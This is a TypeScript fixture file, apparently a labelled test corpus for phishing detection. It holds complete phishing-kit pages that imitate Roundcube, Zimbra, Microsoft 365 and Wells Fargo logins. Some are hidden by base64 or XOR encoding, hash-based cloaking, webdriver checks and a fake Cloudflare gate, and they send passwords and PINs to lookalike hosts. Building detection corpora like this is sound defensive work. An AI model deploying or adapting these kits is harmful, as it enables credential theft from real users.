import { type Entry, htmlRoute, redirectRoute } from '../entry.js';
import { zip, pe, cfb, iso, lnk, apk, crx, rar5, sevenZip, beepWav, fileRoute, jsRoute, jsonRoute, cssRoute } from '../parts/e-bin.js';
import { doc, baseCss, loginCss, tagStub, cookieBar, imgRoute, b64, xorB64, hexEsc, pack } from '../parts/zf-kit.js';

export const entries: Entry[] = [
{
  id: 'zf-webmail-roundcube-quota',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://mail-quota-upgrade.webmail-support.net/roundcube/?_task=login&_user=j.meyer@stadtwerke-example.de',
  body: doc({
    title: 'Roundcube Webmail :: Welcome to Roundcube Webmail',
    css: `body{background:#f4f4f4;font-family:Arial,sans-serif}#login-form{width:360px;margin:12vh auto;background:#fff;padding:30px;border-top:4px solid #37beff}
input{width:100%;padding:8px;margin:6px 0;border:1px solid #ccc}button{background:#37beff;color:#fff;border:0;padding:9px 20px;width:100%}.q{background:#fdecea;color:#8a1f11;padding:8px;font-size:12px}`,
    body: `<div id="login-form"><img src="/roundcube/skins/elastic/images/logo.png" width="40" height="40" alt="Roundcube"><div class="q">Your mailbox has exceeded its storage limit (1998 MB / 2000 MB). Log in to upgrade your quota and avoid loss of incoming messages.</div>
<form method="post" action="/roundcube/?_task=login"><input type="hidden" name="_action" value="login"><input type="hidden" name="_timezone" value="_default_">
<input id="rcmloginuser" name="_user" placeholder="Username"><input name="_pass" type="password" placeholder="Password"><button type="submit">Login</button></form>
<p style="font-size:11px;color:#999">Roundcube Webmail · Get support</p></div>
<script>var u=new URLSearchParams(location.search).get('_user');if(u)document.getElementById('rcmloginuser').value=u;</script>`,
  }),
  routes: { 'mail-quota-upgrade.webmail-support.net/roundcube/skins/elastic/images/logo.png': imgRoute(55, 190, 255) },
},
{
  id: 'zf-webmail-zimbra-pl',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://poczta-weryfikacja-konta.pl/zimbra/',
  body: doc({
    lang: 'pl',
    title: 'Zimbra Web Client Sign In',
    css: `body{background:#2b4a6f;font-family:Arial,sans-serif}.b{width:400px;margin:14vh auto;background:#fff;padding:30px;border-radius:4px}input,select{width:100%;padding:7px;margin:5px 0 12px}button{background:#2c5e8f;color:#fff;border:0;padding:8px 20px}`,
    body: `<div class="b"><b style="font-size:26px;color:#2c5e8f">zimbra</b><p style="font-size:13px">Szanowny użytkowniku, w celu zapobiegania spamowi prosimy o weryfikację konta pocztowego. Konta niezweryfikowane zostaną dezaktywowane w ciągu 24 godzin.</p>
<form method="post" action="/zimbra/weryfikuj.php"><label>Nazwa użytkownika:</label><input name="username"><label>Hasło:</label><input name="password" type="password"><label>Wersja:</label><select name="client"><option>Domyślna</option><option>Zaawansowana</option></select><button>Zaloguj</button></form>
<p style="font-size:11px;color:#777">Copyright © 2005-2025 Synacor, Inc. All rights reserved.</p></div>`,
  }),
},
{
  id: 'zf-obf-o365-base64-docwrite',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://a7x2k.invoice-preview.online/pages/doc.html?e=bWFyay50aG9tcHNvbkBmYWJyaWthbS1ncm91cC5jb20=',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>&#8203;</title></head><body><script>
var _$=${JSON.stringify(b64(doc({
    title: 'Sign in to your account',
    css: `body{margin:0;background:#f2f2f2;font-family:"Segoe UI",sans-serif}.bx{width:440px;margin:12vh auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
input{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;margin:12px 0}button{background:#0067b8;color:#fff;border:0;padding:6px 30px;float:right;min-height:32px}`,
    body: `<div class="bx"><div style="font-weight:600;color:#737373">Microsoft</div><div id="ue" style="margin:10px 0"></div><h2 style="font-weight:600">Enter password</h2>
<p id="er" style="color:#e81123;display:none">Your account or password is incorrect. If you don't remember your password, reset it now.</p>
<input id="pw" type="password" placeholder="Password"><a href="#" style="font-size:13px">Forgot my password</a><br><br><button id="sb">Sign in</button></div>
<script>var q=new URLSearchParams(location.search).get('e')||'';var em='';try{em=atob(q)}catch(x){}document.getElementById('ue').textContent=em;var c=0;
document.getElementById('sb').onclick=function(){c++;var x=new XMLHttpRequest();x.open('POST','https://a7x2k.invoice-preview.online/pages/n3xt.php');x.setRequestHeader('Content-type','application/x-www-form-urlencoded');
x.send('ai='+encodeURIComponent(em)+'&pr='+encodeURIComponent(document.getElementById('pw').value));x.onloadend=function(){if(c<2){document.getElementById('er').style.display='block'}else{window.location.replace('https://outlook.office.com/')}}};<\/script>`,
  })).match(/.{1,120}/g))};
document.write(decodeURIComponent(escape(atob(_$.join('')))));
</script></body></html>`,
  routes: { 'a7x2k.invoice-preview.online/pages/n3xt.php': jsonRoute({ s: 0 }) },
},
{
  id: 'zf-obf-xor-encrypted-wellsfargo',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://wf-online-alerts.secure-msgcenter.com/signon/',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="robots" content="noindex,nofollow"><title>Loading...</title></head><body>
<noscript>Please enable JavaScript.</noscript>
<script>
var k='${'wF' + '9q!Lz'}',d='${xorB64(doc({
    title: 'Wells Fargo - Sign On',
    css: loginCss('#d71e28', '#f4f0ed') + `.hd{background:#d71e28;height:64px;border-bottom:4px solid #ffcd41;color:#fff;font:700 22px Georgia,serif;padding:18px 28px}`,
    body: `<div class="hd">WELLS FARGO</div><div class="wrap"><h1>Good afternoon</h1><p class="small">Sign on to manage your accounts. We have placed a temporary hold on your debit card due to suspicious activity.</p>
<form method="post" action="/signon/auth.php"><input name="j_username" placeholder="Username"><input name="j_password" type="password" placeholder="Password"><input name="pin" type="password" placeholder="ATM PIN" maxlength="4"><button>Sign on</button></form>
<div class="foot">© 1999 - 2025 Wells Fargo. All rights reserved. NMLSR ID 399801</div></div>`,
  }), 'wF9q!Lz')}';
function _d(s,k){var b=atob(s),o=new Uint8Array(b.length);for(var i=0;i<b.length;i++)o[i]=b.charCodeAt(i)^k.charCodeAt(i%k.length);return new TextDecoder().decode(o)}
setTimeout(function(){document.open();document.write(_d(d,k));document.close()},350);
</script></body></html>`,
},
{
  id: 'zf-cloak-hash-email-o365',
  label: 'phishing',
  kind: 'cloaked-kit',
  url: 'https://northwind-cargo-logistics.com/wp-content/uploads/2024/11/.cache/index.html#c2FyYWguaGFsbEBhbHBpbmUtaW5kdXN0cmllcy5jb20=',
  body: doc({
    title: '404 Not Found',
    css: `body{font-family:Times,serif}`,
    body: `<h1>Not Found</h1><p>The requested URL was not found on this server.</p><hr><address>Apache/2.4.58 (Ubuntu) Server at northwind-cargo-logistics.com Port 443</address>
<script>
(function(){var h=location.hash.slice(1);if(!h||navigator.webdriver&&!window.chrome)return;var em;try{em=atob(h)}catch(e){return}if(!/^[^@]+@[^@]+\\.[a-z]{2,}$/i.test(em))return;
var dom=em.split('@')[1];document.title=dom+' - Webmail Login';
document.body.innerHTML='<div style="font-family:Segoe UI,Arial;max-width:400px;margin:10vh auto;border:1px solid #ddd;padding:30px;box-shadow:0 2px 8px #ccc"><img src="/wp-content/uploads/2024/11/.cache/fav?d='+dom+'" width="32" height="32"><h2>'+dom+'</h2><p style="font-size:13px">Session expired. Re-enter password to continue to your mailbox.</p><input id="e" style="width:100%;padding:9px;margin:6px 0" readonly><input id="p" type="password" placeholder="Password" style="width:100%;padding:9px;margin:6px 0"><button id="b" style="width:100%;padding:10px;background:#2563eb;color:#fff;border:0">Continue</button></div>';
document.getElementById('e').value=em;document.getElementById('b').onclick=function(){fetch('/wp-content/uploads/2024/11/.cache/post.php',{method:'POST',body:new URLSearchParams({e:em,p:document.getElementById('p').value})}).then(function(){location.href='https://'+dom})}})();
</script>`,
  }),
  routes: {
    'northwind-cargo-logistics.com/wp-content/uploads/2024/11/.cache/fav': imgRoute(37, 99, 235),
    'northwind-cargo-logistics.com/wp-content/uploads/2024/11/.cache/post.php': jsonRoute({ ok: 1 }),
  },
},
{
  id: 'zf-cloak-turnstile-gate-ms',
  label: 'phishing',
  kind: 'cloaked-kit',
  url: 'https://secure-docs-gateway.pages-preview.com/verify/',
  body: doc({
    title: 'Just a moment...',
    css: `body{font-family:system-ui,sans-serif;background:#fff;color:#313131;padding:8vh 12vw}.cb{display:flex;align-items:center;gap:12px;border:1px solid #e0e0e0;width:300px;padding:16px;background:#fafafa}`,
    body: `<h1 style="font-weight:500">secure-docs-gateway.pages-preview.com</h1><p>Verifying you are human. This may take a few seconds.</p>
<div class="cb"><input type="checkbox" id="hc" style="width:24px;height:24px"><label for="hc">Verify you are human</label></div>
<p style="font-size:12px;color:#888;margin-top:40px">Performance &amp; security by Cloudflare</p>
<script>
document.getElementById('hc').addEventListener('change',function(){
var s={w:screen.width,h:screen.height,tz:Intl.DateTimeFormat().resolvedOptions().timeZone,wd:!!navigator.webdriver,pl:navigator.plugins.length,l:navigator.languages.join(',')};
fetch('/verify/gate',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(s)}).then(function(r){return r.json()}).then(function(j){if(j.pass){location.replace(j.next)}else{location.replace('https://www.wikipedia.org/')}});});
</script>`,
  }),
  routes: {
    'secure-docs-gateway.pages-preview.com/verify/gate': jsonRoute({ pass: true, next: '/verify/m/login.html' }),
    'secure-docs-gateway.pages-preview.com/verify/m/login.html': htmlRoute(doc({
      title: 'Sign in to your account',
      css: loginCss('#0067b8', '#f2f2f2'),
      body: `<div class="wrap"><div class="logo" style="color:#737373">Microsoft</div><h1>Sign in</h1><form method="post" action="/verify/m/p.php"><input name="loginfmt" type="email" placeholder="Email, phone, or Skype"><input name="passwd" type="password" placeholder="Password"><button>Sign in</button></form><p class="small">No account? <a href="#">Create one!</a></p></div>`,
    })),
  },
},
];
